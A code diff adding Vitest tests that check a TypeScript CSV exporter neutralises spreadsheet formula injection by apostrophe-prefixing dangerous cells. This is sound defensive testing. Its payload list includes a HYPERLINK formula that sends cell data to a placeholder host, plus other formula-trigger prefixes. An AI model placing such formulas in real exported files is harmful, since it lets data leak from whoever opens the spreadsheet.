@@ -1,5 +1,8 @@
+import { readdirSync, readFileSync } from "node:fs";
+import path from "node:path";
+import Papa from "papaparse";
 import { describe, expect, it } from "vitest";
-import { exportCsv, parseImport } from "./csv";
+import { exportCsv, parseImport, toCsv } from "./csv";
 
 const rows = [
   {
@@ -55,5 +58,72 @@ describe("access-code CSV", () => {
       [5, ["countInvalid"]],
       [6, ["countInvalid"]],
     ]);
+  });
+});
+
+describe("CSV injection (OWASP)", () => {
+  const evil = [
+    '=HYPERLINK("http://x.example/?"&A1,"Klick")',
+    "+1+1",
+    "-2+3",
+    "@SUM(A1)",
+    "\t=1",
+    "\r=1",
+    "  =1+1",
+    "\uFF1D1+1",
+  ];
+
+  it("text cells that start like a formula are written as text, numbers stay numbers", () => {
+    const text = toCsv(
+      ["team", "rank"],
+      [...evil.map((name) => [name, -1]), ["Ada Lovelace, =Bob", 2]],
+    );
+    const cells = Papa.parse<string[]>(text, { delimiter: ";" }).data.slice(1);
+    for (const [i, name] of evil.entries()) {
+      expect(cells[i]![0]).toBe(`'${name}`);
+      expect(cells[i]![1]).toBe("-1");
+    }
+    // Quoted as well: the apostrophe is part of the cell, not a separate field.
+    expect(text).toContain(`"'=HYPERLINK(`);
+    expect(cells[evil.length]![0]).toBe("Ada Lovelace, =Bob");
+  });
+
+  it("the access-code export neutralises references, and its file imports as typed", () => {
+    const rows = [
+      {
+        paymentReferenceId: "=1+1",
+        codeCount: 1,
+        createdAt: "2026-11-24T08:00:00.000Z",
+        validUntil: "2027-11-24T08:00:00.000Z",
+        codes: ["ABCD-EFGH-JKMN"],
+      },
+    ];
+    const text = exportCsv(rows);
+    expect(text).toContain(`"'=1+1"`);
+    const parsed = parseImport(text, {
+      delimiter: ";",
+      referenceColumn: "paymentReferenceId",
+      countColumn: "codeCount",
+    });
+    expect(parsed.ok && parsed.rows[0]!.paymentReferenceId).toBe("=1+1");
+  });
+
+  it("every CSV the apps write goes through toCsv (no other papaparse unparse)", () => {
+    const root = path.resolve(import.meta.dirname, "../../..");
+    const offenders: string[] = [];
+    const walk = (dir: string) => {
+      for (const entry of readdirSync(dir, { withFileTypes: true })) {
+        const full = path.join(dir, entry.name);
+        if (entry.isDirectory()) {
+          if (!["node_modules", "build", ".react-router"].includes(entry.name)) walk(full);
+        } else if (/\.(ts|tsx)$/.test(entry.name) && !/\.test\.tsx?$/.test(entry.name)) {
+          const source = readFileSync(full, "utf8");
+          if (source.includes(".unparse(") && !full.endsWith(path.join("competitions", "csv.ts")))
+            offenders.push(path.relative(root, full));
+        }
+      }
+    };
+    for (const app of ["editor/app", "player/app"]) walk(path.join(root, app));
+    expect(offenders).toEqual([]);
   });
 });
